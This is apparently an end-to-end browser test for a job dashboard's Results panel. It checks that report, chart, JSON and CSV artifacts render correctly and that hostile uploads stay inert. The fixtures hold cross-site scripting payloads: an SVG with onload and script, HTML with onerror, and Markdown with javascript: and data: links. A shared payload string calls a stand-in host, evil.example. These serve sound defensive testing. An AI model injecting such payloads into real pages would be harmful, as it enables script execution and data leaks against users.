// The Results panel in Chromium, from artifacts put straight into the folder store the API reads
// (ARTIFACT_STORE) and their events appended with EventStream, as a worker would (no worker runs):
// a report with a chart, JSON, CSV, and hostile files (an SVG with script, HTML, Markdown with raw
// HTML and javascript: links) that must run nothing, open no dialog and reach no other origin.
import { createHash } from 'node:crypto';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import {
  artifactKey,
  contentTypeOf,
  createRedis,
  EventStream,
  type JobSummary,
  LocalArtifactStore,
  type NewJobEvent,
  QUEUE_NAME,
  redisKeys,
} from '@headway/progress';
import { Queue } from 'bullmq';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadSampleCorpus } from '../../packages/literature-review/src/corpus.ts';
import { radarChart, trendChart } from '../../packages/literature-review/src/visualization.ts';
import { launchChromium } from '../support/browser.ts';
import type { RedisHandle } from '../support/redis-server.ts';
import { type ApiProcess, startStack, type TestStack } from '../support/test-stack.ts';

const shots = join(import.meta.dirname, '../../test-results');
const PREFIX = 'results';

let stack: TestStack;
let redis: RedisHandle;
let api: ApiProcess;
let browser: Browser;
let store: LocalArtifactStore;

beforeAll(async () => {
  mkdirSync(shots, { recursive: true });
  // The API starts once the store's folder, inside the stack's, is known.
  [stack, browser] = await Promise.all([startStack({ prefix: PREFIX, api: false }), launchChromium()]);
  ({ redis } = stack);
  store = new LocalArtifactStore(join(stack.dir, 'store'));
  api = await stack.startApi({ ARTIFACT_STORE: store.root });
});

afterAll(async () => {
  await browser?.close();
  await stack?.stop();
});

type File = { name: string; body: string; stage?: string; title?: string };

/** A finished job whose attempt 1 published `files`, in order. */
async function jobWith(files: File[]): Promise<{ job: JobSummary; events: NewJobEvent[] }> {
  const res = await fetch(`${api.url}/api/jobs`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ pipeline: 'literature-review' }),
  });
  expect(res.status).toBe(201);
  const job = (await res.json()) as JobSummary;
  const start = Date.now() - 60_000;
  const base = { jobId: job.id, attempt: 1 };
  const events: NewJobEvent[] = [{ ...base, ts: new Date(start).toISOString(), kind: 'status', status: 'active' }];
  for (const [i, file] of files.entries()) {
    const contentType = contentTypeOf(file.name);
    const stored = await store.put(artifactKey(job.id, 1, file.name), new Blob([file.body]).stream(), {
      contentType,
      maxBytes: 10_000_000,
    });
    events.push({
      ...base,
      ts: new Date(start + 1000 * (i + 1)).toISOString(),
      kind: 'artifact',
      name: file.name,
      size: stored.size,
      contentType,
      sha256: stored.sha256,
      ...(file.stage && { stage: file.stage }),
      ...(file.title && { title: file.title }),
    });
  }
  events.push({ ...base, ts: new Date(start + 50_000).toISOString(), kind: 'status', status: 'completed' });
  const connection = createRedis(redis.url, 'blocking');
  await new EventStream(connection, redisKeys(PREFIX), { maxLen: 1000 }).append(job.id, events);
  // What a worker stores beside the events: the job list's count comes from it.
  const queue = new Queue(QUEUE_NAME, { connection, prefix: PREFIX });
  await (await queue.getJob(job.id))?.updateProgress({ percentage: 100, artifacts: files.length });
  await queue.close();
  connection.disconnect();
  return { job, events };
}

/** Every element of the page (or only of `<hw-results>`), through shadow roots, with its attributes. */
const deepElements = (page: Page, within?: string) =>
  page.evaluate((within) => {
    const out: Array<{ tag: string; attrs: string[]; inside: boolean }> = [];
    const walk = (root: Document | ShadowRoot, inside: boolean) => {
      for (const el of root.querySelectorAll('*')) {
        const here = inside || el.tagName.toLowerCase() === within;
        out.push({ tag: el.tagName.toLowerCase(), attrs: el.getAttributeNames().map((n) => `${n}=${el.getAttribute(n)}`), inside: here });
        if (el.shadowRoot) walk(el.shadowRoot, here);
      }
    };
    walk(document, false);
    return out.filter((e) => !within || e.inside);
  }, within);

const PWN = "alert(1);window.top.pwned=1;fetch('http://evil.example/x')";

const FILES: File[] = [
  { name: 'summary.md', body: '## Summary\n\n**3** gaps remain; see [the report](report.md).\n' },
  {
    name: 'report.md',
    stage: 'finalization',
    title: 'Literature review',
    body: '# Literature review\n\nCoverage by pillar:\n\n![Radar chart](charts/radar.svg)\n\n| pillar | % |\n| - | - |\n| Data | 80 |\n',
  },
  {
    name: 'charts/radar.svg',
    stage: 'visualization',
    body: '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="120" viewBox="0 0 200 120"><rect width="200" height="120" fill="#2563eb"/></svg>',
  },
  {
    name: 'data/metrics.json',
    stage: 'gap_analysis',
    body: JSON.stringify({ completeness: { data: 80, methods: 55 }, gaps: [{ id: 'g1', coverage: 0.2 }] }),
  },
  { name: 'data/table.csv', stage: 'gap_analysis', body: 'author,note\n"Smith, J.","said ""hi"""\nLee,plain\n' },
  {
    name: 'evil.svg',
    stage: 'visualization',
    body: `<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50" onload="${PWN}"><script>${PWN}</script><rect width="50" height="50" fill="red"/></svg>`,
  },
  { name: 'page.html', body: `<!doctype html><h1>hi</h1><script>${PWN}</script><img src=x onerror="${PWN}">` },
  {
    name: 'evil.md',
    body: `# Evil\n\n<img src=x onerror=alert(1)>\n\n<script>${PWN}</script>\n\n[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) ![far](http://evil.example/i.png)\n`,
  },
];

/** Fails the test on any dialog, page error or request that leaves the API's origin. */
function watch(page: Page) {
  const seen = { dialogs: [] as string[], foreign: [] as string[], errors: [] as string[] };
  page.on('dialog', (d) => {
    seen.dialogs.push(d.message());
    d.dismiss().catch(() => undefined);
  });
  page.on('request', (r) => {
    if (new URL(r.url()).origin !== new URL(api.url).origin) seen.foreign.push(r.url());
  });
  page.on('pageerror', (e) => seen.errors.push(e.message));
  return seen;
}

const open = async (page: Page, name: string) => {
  const button = page
    .getByRole('region', { name: 'Results' })
    .getByRole('button', { name: new RegExp(`^${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\b`) });
  await button.click();
  const preview = page.getByRole('region', { name: `Preview of ${name}` });
  await preview.waitFor();
  return preview;
};

describe('Results panel', () => {
  it('shows the report rendered with its chart, a JSON tree and a CSV table, and runs nothing from hostile files', async () => {
    const { job, events } = await jobWith(FILES);
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const seen = watch(page);
    await page.goto(`${api.url}/jobs/${job.id}`);
    const results = page.getByRole('region', { name: 'Results' });
    await results.waitFor();
    expect(await results.locator('.count').innerText()).toMatch(/^8 files · /);

    // summary.md comes first and open; its link to the report is the report's permalink.
    const first = results.getByRole('button').first();
    expect(await first.getAttribute('aria-expanded')).toBe('true');
    expect(await first.innerText()).toMatch(/^summary\.md/);
    const summary = page.getByRole('region', { name: 'Preview of summary.md' });
    await summary.getByRole('heading', { name: 'Summary' }).waitFor();
    expect(await summary.getByRole('link', { name: 'the report' }).getAttribute('href')).toBe(`/jobs/${job.id}/artifacts/report.md`);

    // Grouped by stage, in the pipeline's order; files of no stage last.
    expect(await results.locator('h3').allTextContents()).toEqual(['Gap analysis', 'Visualization', 'Finalization', 'Other files']);

    const report = await open(page, 'report.md');
    await report.getByRole('heading', { name: 'Literature review', level: 1 }).waitFor();
    expect(await report.getByRole('heading', { name: 'Literature review', level: 1 }).isVisible()).toBe(true);
    const chart = report.getByRole('img', { name: 'Radar chart' });
    // Markdown images load lazily, when a reader scrolls near them.
    await chart.scrollIntoViewIfNeeded();
    await expect.poll(() => chart.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(200);

    const json = await open(page, 'data/metrics.json');
    await json.locator('.json').waitFor();
    expect(await json.locator('details').count()).toBe(4);
    expect(await json.locator('.json').innerText()).toContain('methods: 55');

    const csv = await open(page, 'data/table.csv');
    const table = csv.getByRole('table');
    await table.waitFor();
    expect(await table.locator('th').allInnerTexts()).toEqual(['author', 'note']);
    expect(await table.locator('tbody tr').first().locator('td').allInnerTexts()).toEqual(['Smith, J.', 'said "hi"']);

    const svg = await open(page, 'evil.svg');
    await expect.poll(() => svg.locator('img').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(50);

    const htmlFile = await open(page, 'page.html');
    const download = htmlFile.getByRole('link', { name: 'download page.html' });
    expect(await download.getAttribute('href')).toBe(`/api/jobs/${job.id}/artifacts/page.html?attempt=1&download=1`);
    expect(await download.getAttribute('download')).toBe('');
    expect(await htmlFile.locator('iframe, object, embed, img').count()).toBe(0);

    const md = await open(page, 'evil.md');
    await md.getByRole('heading', { name: 'Evil' }).waitFor();
    expect(await md.locator('.markdown').innerText()).toContain('<img src=x onerror=alert(1)>');
    await page.waitForTimeout(300);

    // In the whole page, only the app's own script; in Results, no handler, no javascript:/data: URL.
    const page_ = await deepElements(page);
    expect(page_.filter((e) => e.tag === 'script').map((e) => e.attrs.find((a) => a.startsWith('src=')))).toEqual([
      expect.stringMatching(/^src=\/assets\/index-[\w-]+\.js$/),
    ]);
    expect(page_.filter((e) => ['iframe', 'object', 'embed'].includes(e.tag))).toEqual([]);
    const panel = await deepElements(page, 'hw-results');
    expect(panel.length).toBeGreaterThan(50);
    expect(panel.flatMap((e) => e.attrs).filter((a) => /^on/i.test(a) || /^(href|src)=\s*(javascript|data):/i.test(a))).toEqual([]);
    expect(
      panel
        .filter((e) => e.tag === 'img')
        .map((e) => e.attrs.find((a) => a.startsWith('src=')))
        .sort(),
    ).toEqual([`src=/api/jobs/${job.id}/artifacts/charts/radar.svg?attempt=1`, `src=/api/jobs/${job.id}/artifacts/evil.svg?attempt=1`]);
    expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
    expect(seen).toEqual({ dialogs: [], foreign: [], errors: [] });

    // The per-file download is the very bytes the event announced.
    const link = results.getByRole('link', { name: 'Download charts/radar.svg' });
    const bytes = await (await page.request.get(`${api.url}${await link.getAttribute('href')}`)).body();
    const event = events.find((e) => e.kind === 'artifact' && e.name === 'charts/radar.svg');
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(event?.kind === 'artifact' && event.sha256);
    expect(await results.getByRole('link', { name: 'Download all (.zip)' }).getAttribute('href')).toBe(`/api/jobs/${job.id}/artifacts.zip`);

    await results.screenshot({ path: join(shots, 'results.png') });

    // The job list counts the files.
    await page.goto(`${api.url}/`);
    await expect
      .poll(() =>
        page
          .locator(`tr[data-job-id="${job.id}"] .artifacts`)
          .innerText()
          .catch(() => ''),
      )
      .toBe('8 files');
    expect(seen).toEqual({ dialogs: [], foreign: [], errors: [] });
    await page.close();
  });

  it('opens a permalink’s preview and scrolls it into view, on a phone-wide screen in the dark', async () => {
    const { job } = await jobWith(FILES);
    const page = await browser.newPage({ viewport: { width: 360, height: 740 }, colorScheme: 'dark' });
    const seen = watch(page);
    await page.goto(`${api.url}/jobs/${job.id}/artifacts/data/table.csv`);
    const preview = page.getByRole('region', { name: 'Preview of data/table.csv' });
    await preview.getByRole('table').waitFor();
    await expect
      .poll(() =>
        preview.evaluate((el) => {
          const box = el.getBoundingClientRect();
          return box.top >= 0 && box.top < innerHeight;
        }),
      )
      .toBe(true);
    // Nothing wider than the screen but what scrolls inside its own box.
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    await page.screenshot({ path: join(shots, 'results-360-dark.png') });
    // The permalink link of another file navigates in the app and opens that one too.
    await page
      .getByRole('region', { name: 'Results' })
      .getByRole('button', { name: /^charts\/radar\.svg/ })
      .click();
    await page.getByRole('region', { name: 'Preview of charts/radar.svg' }).getByRole('link', { name: 'Permalink' }).click();
    await expect.poll(() => new URL(page.url()).pathname).toBe(`/jobs/${job.id}/artifacts/charts/radar.svg`);
    expect(seen).toEqual({ dialogs: [], foreign: [], errors: [] });
    await page.close();
  });

  it('draws a finished literature review’s report and charts (the README’s picture)', async () => {
    const { pillars } = loadSampleCorpus();
    const history = [0.3, 0.55, 0.72].map((share, i) =>
      Object.fromEntries(pillars.map((p, j) => [p.id, Math.round(100 * Math.min(1, share + 0.08 * ((i + j) % 3)))])),
    );
    const last = history.at(-1)!;
    const report = [
      '# Literature review',
      '',
      `${pillars.length} pillars reviewed against the sample corpus in 3 iterations; stopped after no further gain.`,
      '',
      '## Completeness by pillar',
      '',
      '![Completeness by pillar](charts/radar.svg)',
      '',
      '| Pillar | Completeness |',
      '| --- | --- |',
      ...pillars.map((p) => `| ${p.name} | ${last[p.id]} % |`),
      '',
      '## Progress over iterations',
      '',
      '![Completeness over iterations](charts/trend.svg)',
    ].join('\n');
    const { job } = await jobWith([
      {
        name: 'summary.md',
        body: `**${pillars.length} pillars**, mean completeness ${Math.round(Object.values(last).reduce((a, b) => a + b, 0) / pillars.length)} %. The full [report](report.md) and its charts are below.\n`,
      },
      { name: 'charts/radar.svg', stage: 'visualization', title: 'Completeness by pillar', body: radarChart(pillars, last) },
      { name: 'charts/trend.svg', stage: 'visualization', title: 'Completeness over iterations', body: trendChart(pillars, history) },
      { name: 'data/completeness.json', stage: 'gap_analysis', body: JSON.stringify({ history }, null, 2) },
      { name: 'report.md', stage: 'finalization', title: 'Literature review report', body: report },
    ]);
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.goto(`${api.url}/jobs/${job.id}/artifacts/report.md`);
    const preview = page.getByRole('region', { name: 'Preview of report.md' });
    const radar = preview.getByRole('img', { name: 'Completeness by pillar' });
    await expect
      .poll(() => radar.evaluate((img: HTMLImageElement) => (img.complete ? img.naturalWidth : 0)), { timeout: 10_000 })
      .toBeGreaterThan(0);
    await page
      .getByRole('region', { name: 'Results' })
      .evaluate((el) => el.getRootNode() instanceof ShadowRoot && (el.getRootNode() as ShadowRoot).host.scrollIntoView({ block: 'start' }));
    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
    await page.screenshot({ path: join(shots, 'results-literature-review.png') });
    await page.close();
  });
});
